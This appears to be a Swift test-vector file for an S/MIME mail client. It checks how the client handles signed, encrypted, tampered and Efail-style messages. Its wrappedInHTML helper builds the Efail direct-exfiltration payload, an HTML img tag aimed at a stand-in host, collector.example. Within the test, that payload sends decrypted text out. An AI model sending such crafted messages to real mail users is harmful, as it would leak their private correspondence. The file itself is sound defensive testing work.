internal import KeySharing
internal import OpenSSL
internal import SecureMail
internal import TestCredentials

/// Test vectors about encryption: its authentication, and the attacks that were published as Efail.
enum EncryptionVectors {
    private static let efail =
        "CVE-2017-17689 (Efail): AES-CBC does not detect alterations, and HTML can send the text to a server."
    private static let exfiltration =
        "Efail, direct exfiltration: a program that joins the parts sends the decrypted text to a server."

    static let all = valid + defective

    private static let valid: [MessageVector] = [
        MessageVector(
            "signed-and-encrypted", "The sender signed the message and encrypted it with AES-256-CBC.",
            .valid,
            "shows it as encrypted, and as signed by the sender",
            because:
                "RFC 8551, 2.7: AES-CBC is the encryption of version 3. The signature protects the content."
        ) { try $0.encrypted($0.header(), try $0.signed(MailHeader([]))) },
        MessageVector(
            "signed-and-encrypted-gcm", "The sender signed the message and encrypted it with AES-256-GCM.",
            .valid, "shows it as encrypted, and as signed by the sender",
            because: "RFC 8551, 2.7: programs must support AES-GCM."
        ) { try $0.encrypted($0.header(), try $0.signed(MailHeader([])), .aes256GCM) },
    ]

    private static let defective: [MessageVector] = [
        MessageVector(
            "unauthenticated", "The message is encrypted with AES-CBC and not signed.", .notSigned,
            "shows that it may have been altered", because: efail, check: "encryption"
        ) { try $0.encrypted($0.header(), $0.body) },
        MessageVector(
            "encrypted-gcm", "The message is encrypted with AES-GCM and not signed.", .notSigned,
            "does not show a signature",
            because: "RFC 8551, 2.4.4: an authenticated encryption does not identify the sender.",
            check: "signed"
        ) { try $0.encrypted($0.header(), $0.body, .aes256GCM) },
        MessageVector(
            "altered-cbc", "One letter of an unsigned message was changed without the key.", .unsafe,
            "shows that it may have been altered, and loads no remote content", because: efail,
            check: "encryption"
        ) { material in
            MailWriter.encrypted(
                material.header(), try material.encryptedAndAltered(material.body), .aes256CBC)
        },
        MessageVector(
            "altered-cbc-signed", "One letter of a signed and encrypted message was changed without the key.",
            .unreadable, "shows that it was altered",
            because: "RFC 8551, 6: the signature inside protects the content.", check: "signature"
        ) { material in
            MailWriter.encrypted(
                material.header(), try material.encryptedAndAltered(try material.signed(MailHeader([]))),
                .aes256CBC)
        },
        MessageVector(
            "altered-gcm", "One bit of the tag of AES-GCM is flipped.", .unreadable,
            "shows nothing of the content",
            because: "RFC 5083, 2.2: if the tag does not match, the content must be destroyed.",
            check: "signed"
        ) { material in
            var der = try material.encrypted(material.body, .aes256GCM)
            der[der.count - 1] ^= 1
            return MailWriter.encrypted(material.header(), der, .aes256GCM)
        },
        MessageVector(
            "html-around", "HTML around an encrypted part would send its text to a server.", .unsafe,
            "opens the encrypted part separately, or not at all", because: exfiltration, check: "structure"
        ) { $0.wrappedInHTML(try $0.encrypted(MailHeader([]), $0.body)) },
        MessageVector(
            "html-around-signed", "HTML around a signed and encrypted part would send its text to a server.",
            .unsafe, "opens the encrypted part separately, or not at all", because: exfiltration,
            check: "structure"
        ) { $0.wrappedInHTML(try $0.encrypted(MailHeader([]), try $0.signed(MailHeader([])))) },
        MessageVector(
            "signed-around", "An encrypted message that is not signed inside is signed outside.",
            .debatableSender,
            "shows that the signer may not know the content",
            because: "RFC 8551, 3.7: anybody can sign another person's encrypted message.", check: "signed"
        ) { try $0.signed($0.header(), try $0.encrypted(MailHeader([]), $0.body)) },
        MessageVector(
            "for-another", "The message is encrypted for another person only.", .unreadable,
            "shows that the key is missing", because: "RFC 5652, 6: no recipient's key is available.",
            check: "signed"
        ) { material in
            let other = try material.context.identity(.encryption, person: material.context.otherPerson())
            return try material.encrypted(
                material.header(), try material.signed(MailHeader([])), for: other)
        },
    ]
}

extension MessageMaterial {
    /// Returns a message in which HTML parts enclose `part`. A mail program that concatenates the parts requests a URL
    /// that contains the decrypted text (Efail).
    fileprivate func wrappedInHTML(_ part: [UInt8]) -> [UInt8] {
        mixed(
            header(),
            [
                self.part("<img src=\"http://collector.example/", type: "text/html"), part,
                self.part("\">", type: "text/html"),
            ])
    }
}
